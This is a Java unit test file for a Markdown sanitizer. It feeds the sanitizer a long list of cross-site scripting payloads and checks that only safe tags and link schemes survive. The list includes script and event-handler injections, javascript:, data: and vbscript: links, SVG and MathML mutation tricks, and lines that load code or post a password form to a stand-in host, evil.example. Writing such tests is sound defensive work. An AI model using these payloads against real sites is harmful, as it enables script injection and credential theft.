package dev.slipway.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class MarkdownTest {
    /** Every tag there may be in the end, exactly as the sanitizer writes it. */
    private static final Pattern HARMLESS = Pattern.compile(
            "</?(p|hr|br|em|strong|b|i|s|del|ins|sub|sup|kbd|code|pre|blockquote|ul|li|table|thead|tbody|tr|h[3-6])( /)?>"
                    + "|<ol( start=\"[0-9]{1,9}\")?>|</ol>"
                    + "|<t[hd]( align=\"(left|center|right)\")?>|</t[hd]>"
                    + "|<a href=\"(https?:|mailto:)[^\"<>]*\"( title=\"[^\"<>]*\")?"
                    + " rel=\"[a-z ]+\">|</a>");

    /** What links must say, which the sanitizer writes in any order. */
    private static final String ALL_RELS = "rel=\"(?=[^\"]*nofollow)(?=[^\"]*noopener)(?=[^\"]*noreferrer)[^\"]*\"";

    private final Markdown markdown = new Markdown();

    static List<String> attacks() {
        return List.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<script\n>alert(1)</script\n>",
                "`<script>` and <script >alert(1)</script >",
                "<img src=x onerror=alert(1)>",
                "<img src=\"x\" onerror=\"alert(1)\"//>",
                "<img/src=`x`onerror=alert(1)>",
                "<p onclick=\"alert(1)\" onmouseover='alert(2)'>text</p>",
                "<a href=\"https://example.com\" onclick=alert(1)>x</a>",
                "<body onload=alert(1)>",
                "<details open ontoggle=alert(1)><summary>x</summary></details>",
                "<input autofocus onfocus=alert(1)>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](  javascript:alert(1))",
                "[x](java&#115;cript:alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](<java\tscript:alert(1)>)",
                "[x](java%0ascript:alert(1))",
                "[x](\u0001javascript:alert(1))",
                "[x](vbscript:msgbox(1))",
                "<javascript:alert(1)>",
                "[x]: javascript:alert(1)\n\n[x]",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"java\nscript:alert(1)\">x</a>",
                "<a href=\" &#14; javascript:alert(1)\">x</a>",
                "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)\">x</a>",
                "<a href=\"feed:javascript:alert(1)\">x</a>",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
                "![x](javascript:alert(1))",
                "![x\" onerror=\"alert(1)](https://example.com/x.png)",
                "[x](https://example.com \"a\\\" onclick=\\\"alert(1)\")",
                "[x](blob:https://example.com/1)",
                "[x](file:///etc/passwd)",
                "<svg onload=alert(1)></svg>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><script href=data:,alert(1) /></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
                "<svg><set attributeName=href to=javascript:alert(1)></svg>",
                "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
                "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"></use></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<math href=\"javascript:alert(1)\">x</math>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<p style=\"background:url(javascript:alert(1))\">x</p>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                "<base href=https://evil.example/>",
                "<iframe src=https://evil.example></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=javascript:alert(1)></object>",
                "<embed src=javascript:alert(1)>",
                "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
                "<button formaction=javascript:alert(1)>x</button>",
                "<video><source onerror=alert(1)></video>",
                "<audio src=x onerror=alert(1)>",
                "<template><script>alert(1)</script></template>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<textarea><img src=x onerror=alert(1)></textarea>",
                "<title><img src=x onerror=alert(1)></title>",
                "<xmp><img src=x onerror=alert(1)></xmp>",
                "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version=\"1.0\"?><script>alert(1)</script>",
                "<div hx-get=\"/sign-out\" hx-trigger=load>x</div>",
                "<p data-copy=\"rm -rf\" hidden>x</p>",
                "<p id=content class=\"alert alert-danger\" slot=x is=y>x</p>",
                "```\"><script>alert(1)</script>\ncode\n```",
                "| <img src=x onerror=alert(1)> |\n| --- |\n| <script>alert(1)</script> |",
                "# <script>alert(1)</script>",
                "> <iframe src=javascript:alert(1)>",
                "~~<svg onload=alert(1)>~~",
                "<<script>script>alert(1)<</script>/script>",
                "</p></div></main><script>alert(1)</script>");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void nothingHarmfulIsLeftOfAnAttack(String attack) {
        assertHarmless(attack);
        assertHarmless("before " + attack + " after");
        assertHarmless("* " + attack);
        assertHarmless("**" + attack + "**\n\n" + attack);
    }

    @Test
    void nothingHarmfulIsLeftOfPiecesInAnyOrder() {
        long seed = Long.getLong("slipway.test.seed", System.nanoTime());
        Random random = new Random(seed);
        List<String> attacks = attacks();
        for (int i = 0; i < 2_000; i++) {
            StringBuilder text = new StringBuilder();
            for (int pieces = 1 + random.nextInt(4); pieces > 0; pieces--) {
                String attack = attacks.get(random.nextInt(attacks.size()));
                int from = random.nextInt(attack.length());
                text.append(attack, from, from + random.nextInt(attack.length() - from) + 1);
            }
            assertHarmless(text.toString());
        }
    }

    /** What browsers could take for a tag is one of those that are let through, with nothing but the attributes those may have. */
    private void assertHarmless(String text) {
        String html = markdown.html(text);
        String rest = HARMLESS.matcher(html).replaceAll("");

        assertThat(rest).as("what is left of %s as %s", text, html).doesNotContain("<", ">");
        HARMLESS.matcher(html)
                .results()
                .map(tag -> tag.group().toLowerCase(Locale.ROOT))
                .filter(tag -> tag.startsWith("<a "))
                .forEach(tag -> assertThat(tag.replaceAll("&#[0-9]+;|%[0-9a-f]{2}|\\s", ""))
                        .as("a link of %s", text)
                        .doesNotContain("href=\"javascript", "href=\"data:", "href=\"vbscript", "href=\"file:"));
    }

    @Test
    void notesLookAsTheirAuthorsMeantThem() {
        assertThat(markdown.html("""
                        # Orbit 2.0

                        *New*: **faster** `orbit sync`, ~~slower~~ startup. See https://example.com/notes?a=1&b=2

                        1. one
                        2. [two](https://example.com "Two")

                        | a | b |
                        | --- | ---: |
                        | 1 | 2 |

                        ![A picture](https://example.com/p.png)
                        """).replaceAll(ALL_RELS, "rel=\"all three\""))
                .contains(
                        "<h3>Orbit 2.0</h3>",
                        "<em>New</em>",
                        "<strong>faster</strong>",
                        "<code>orbit sync</code>",
                        "<del>slower</del>",
                        "<a href=\"https://example.com/notes?a&#61;1&amp;b&#61;2\" rel=\"all three\">",
                        "<li><a href=\"https://example.com\" title=\"Two\" rel=\"all three\">two</a></li>",
                        "<td align=\"right\">2</td>",
                        "<a href=\"https://example.com/p.png\" rel=\"all three\">A picture</a>")
                .doesNotContain("<img");
    }

    @Test
    void angleBracketsInCodeStayWhatTheyAre() {
        assertThat(markdown.html("`<script>`")).isEqualTo("<p><code>&lt;script&gt;</code></p>\n");
    }
}
